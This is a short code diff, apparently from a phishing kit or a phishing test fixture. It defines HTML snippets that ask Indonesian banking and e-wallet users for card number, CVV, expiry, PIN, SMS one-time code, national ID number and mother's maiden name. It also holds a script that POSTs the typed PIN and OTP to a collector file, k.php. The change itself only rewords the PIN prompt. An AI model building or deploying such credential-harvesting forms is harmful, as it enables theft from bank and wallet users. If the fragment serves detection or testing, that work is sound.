@@ -12,7 +12,7 @@ PLAIN = site()
 BLANKS = "NIK%3A%0ANama%20ibu%20kandung%3A%0AKode%20yang%20masuk%20SMS%3A"
 CARD = "<input name=ccnum> <input name=cvv> <input name=exp>"
 MPIN = "PIN <input name=pin>"
-WALLET = "<p>Masukkan PIN kamu <input type=password name=pin><p>Kode verifikasi dari SMS <input name=otp>"
+WALLET = "<p>PIN kamu <input type=password name=pin><p>Kode verifikasi dari SMS <input name=otp>"
 SENDS = (
     "<script>function k(){var x=new XMLHttpRequest;x.open('POST','k.php');"
     "x.send('p='+pin.value+'&o='+otp.value)}</script>"
